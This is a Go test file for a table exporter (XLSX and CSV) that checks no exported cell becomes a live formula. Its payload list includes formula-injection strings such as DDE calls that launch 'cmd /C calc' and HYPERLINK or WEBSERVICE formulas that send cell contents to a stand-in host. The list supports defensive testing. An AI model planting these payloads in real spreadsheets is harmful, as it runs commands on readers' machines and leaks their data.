package docgen

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"encoding/xml"
	"errors"
	"io"
	"iter"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"hoso/internal/clock"
	"hoso/internal/errs"
)

// payloads are what attackers put into names so that a spreadsheet computes it
// (SECURITY T23), and what only looks like it.
var payloads = []string{
	`=1+1`, `=cmd|' /C calc'!A0`, `+1+1`, `-1+1`, `@SUM(1,1)`, "\t=1+1", "\r=1+1", "\n=1+1", "\x00=1+1", ` =1+1`, "\u00a0=1+1",
	`=HYPERLINK("http://x.example/?"&A1,"Xem")`, `=WEBSERVICE("http://x.example")`, `=IMPORTXML("http://x.example","//a")`,
	`=DDE("cmd";"/C calc";"x")`, `+DDE("cmd";"/C calc";"x")`, `-2+3+cmd|' /C calc'!A0`, `@=1+1`, `=@1`, `==1`, `=-1`, `=+1`, `+=1`, `-=1`,
	`＝1+1`, `＋1+1`, `－1+1`, `＠SUM(1)`, "\ufeff=1+1", "\u200b=1+1", `=1+1;=2+2`, `"=1+1"`, `a";=1+1;"`, "a\n=1+1", "a\r\n=1+1;=2", `'=1+1`,
	`{=1+1}`, `=INDIRECT("A1")`, `=A1`, `_x003D_1+1`, `=TRUE`, `=1e9`,
}

func rowsOf(rows ...[]any) iter.Seq2[[]any, error] {
	return func(yield func([]any, error) bool) {
		for _, r := range rows {
			if !yield(r, nil) {
				return
			}
		}
	}
}

func payloadTable() Table {
	var rows [][]any
	for _, p := range payloads {
		rows = append(rows, []any{p, int64(-5), clock.Date("2021-04-07")})
	}
	return Table{Title: payloads[0], Notes: payloads[1:3], Mark: payloads[4],
		Columns: []Column{{Title: `=1+1`}, {Title: "Số", Kind: Int}, {Title: "Ngày", Kind: Date}}, Rows: rowsOf(rows...)}
}

// TestNoCellIsAFormula opens each export with LibreOffice, saves it as its own XML
// and looks for computed cells.
func TestNoCellIsAFormula(t *testing.T) {
	for name, write := range map[string]func(io.Writer, Table) error{"a.xlsx": WriteXLSX, "a.csv": WriteCSV} {
		t.Run(name, func(t *testing.T) {
			var b bytes.Buffer
			if err := write(&b, payloadTable()); err != nil {
				t.Fatal(err)
			}
			flat := opened(t, name, b.Bytes())
			if n := strings.Count(flat, "table:formula"); n > 0 {
				t.Errorf("%d cells are computed", n)
			}
			if !strings.Contains(flat, "1+1") || strings.Count(flat, "<table:table-row") < len(payloads) {
				t.Error("LibreOffice did not read the rows")
			}
		})
	}
}

// opened is the file as LibreOffice understands it, in flat ODS. A CSV is opened
// as a careless person does: semicolons, formulas evaluated.
func opened(t *testing.T, name string, data []byte) string {
	t.Helper()
	dir := t.TempDir()
	from := filepath.Join(dir, name)
	if err := os.WriteFile(from, data, 0o600); err != nil {
		t.Fatal(err)
	}
	args := []string{"-env:UserInstallation=file://" + dir, "--headless", "--convert-to", "fods", "--outdir", dir}
	if strings.HasSuffix(name, ".csv") {
		// separator 59, quote 34, UTF-8, from line 1, no column formats, language
		// of the system, quoted fields not as text, detect numbers, …, evaluate.
		args = append(args, "--infilter=CSV:59,34,76,1,,0,false,true,false,false,false,-1,true")
	}
	if out, err := exec.Command("soffice", append(args, from)...).CombinedOutput(); err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	flat, err := os.ReadFile(strings.TrimSuffix(from, filepath.Ext(from)) + ".fods")
	if err != nil {
		t.Fatal(err)
	}
	return string(flat)
}

// TestFormulaWouldBeSeen shows that the test above can fail.
func TestFormulaWouldBeSeen(t *testing.T) {
	if flat := opened(t, "a.csv", []byte("a;b\r\n=1+1;2\r\n")); !strings.Contains(flat, "table:formula") {
		t.Error("LibreOffice did not compute =1+1 in a CSV")
	}
}

func directory() Table {
	return Table{Sheet: "Danh sách: 2026/11", Title: "Danh sách đơn vị", Notes: []string{"Phạm vi: toàn Bộ"}, Mark: "THỬ NGHIỆM",
		Columns: []Column{{Title: "Tên"}, {Title: "Số lượng", Kind: Int}, {Title: "Từ ngày", Kind: Date}},
		Rows: rowsOf([]any{"Vụ Tổ chức ca\u0301n bộ", 12, clock.Date("2021-04-07")},
			[]any{"Cục B", int64(3), clock.Date("2021-04")}, []any{"Trường C", nil, nil})}
}

func TestXLSXKeepsTypes(t *testing.T) {
	var b bytes.Buffer
	if err := WriteXLSX(&b, directory()); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(bytes.NewReader(b.Bytes()))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	name := f.GetSheetName(0)
	for cell, want := range map[string]string{"A1": "THỬ NGHIỆM", "A2": "Danh sách đơn vị", "A3": "Phạm vi: toàn Bộ", "A4": "Tên",
		"A5": "Vụ Tổ chức cán bộ", "B5": "12", "C5": "07/04/2021", "C6": "04/2021", "A7": "Trường C", "B7": "", "C7": ""} {
		if got, err := f.GetCellValue(name, cell); err != nil || got != want {
			t.Errorf("%s: got %q, want %q (%v)", cell, got, want, err)
		}
	}
	if raw, err := f.GetCellValue(name, "C5", excelize.Options{RawCellValue: true}); err != nil || raw != "44293" {
		t.Errorf("the date is stored as %q, not as a day that sorts (%v)", raw, err)
	}
	panes, err := f.GetPanes(name)
	if err != nil || !panes.Freeze || panes.YSplit != 4 {
		t.Errorf("the headings are not frozen: %+v %v", panes, err)
	}
	if part := partOf(t, b.Bytes(), "xl/worksheets/sheet1.xml"); !strings.Contains(part, `<autoFilter ref="$A$4:$C$7"`) && !strings.Contains(part, `<autoFilter ref="A4:C7"`) {
		t.Error("the headings have no filter")
	}
}

func partOf(t *testing.T, data []byte, name string) string {
	t.Helper()
	z, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
	if err != nil {
		t.Fatal(err)
	}
	f, err := z.Open(name)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	part, err := io.ReadAll(f)
	if err != nil || xml.Unmarshal(part, new(struct{})) != nil {
		t.Fatalf("%s is not XML: %v", name, err)
	}
	return string(part)
}

func TestCSVIsWhatSpreadsheetsRead(t *testing.T) {
	var b bytes.Buffer
	if err := WriteCSV(&b, directory()); err != nil {
		t.Fatal(err)
	}
	want := "\ufeffTHỬ NGHIỆM\r\nDanh sách đơn vị\r\nPhạm vi: toàn Bộ\r\nTên;Số lượng;Từ ngày\r\n" +
		"Vụ Tổ chức cán bộ;12;07/04/2021\r\nCục B;3;04/2021\r\nTrường C;;\r\n"
	if got := b.String(); got != want {
		t.Errorf("got  %q\nwant %q", got, want)
	}
}

// TestCSVKeepsPlaces shows that no payload moves to another cell.
func TestCSVKeepsPlaces(t *testing.T) {
	var b bytes.Buffer
	if err := WriteCSV(&b, payloadTable()); err != nil {
		t.Fatal(err)
	}
	r := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(b.Bytes(), []byte("\ufeff"))))
	r.Comma, r.FieldsPerRecord = ';', -1
	all, err := r.ReadAll()
	if err != nil || len(all) != len(payloads)+5 {
		t.Fatalf("%d rows, %v", len(all), err)
	}
	for i, row := range all[5:] {
		if len(row) != 3 || row[1] != "-5" {
			t.Errorf("payload %q gives %q", payloads[i], row)
		}
	}
}

func TestTableRefuses(t *testing.T) {
	broken := errors.New("the rows broke")
	one := []Column{{Title: "Tên"}}
	for name, c := range map[string]struct {
		rows iter.Seq2[[]any, error]
		code string
	}{
		"a float":          {rowsOf([]any{1.5}), "docgen.table.cell"},
		"a cell too many":  {rowsOf([]any{"a", "b"}), "docgen.table.cell"},
		"broken text":      {rowsOf([]any{"\xff"}), "docgen.table.cell"},
		"text too long":    {rowsOf([]any{strings.Repeat("ế", maxText+1)}), "docgen.table.text_too_long"},
		"an error of rows": {func(yield func([]any, error) bool) { yield(nil, broken) }, "internal"},
	} {
		for kind, write := range map[string]func(io.Writer, Table) error{"xlsx": WriteXLSX, "csv": WriteCSV} {
			err := write(io.Discard, Table{Columns: one, Rows: c.rows})
			if errs.Of(err) == nil || errs.Of(err).Code != c.code || c.code == "internal" && !errors.Is(err, broken) {
				t.Errorf("%s as %s: %v", name, kind, err)
			}
		}
	}
}
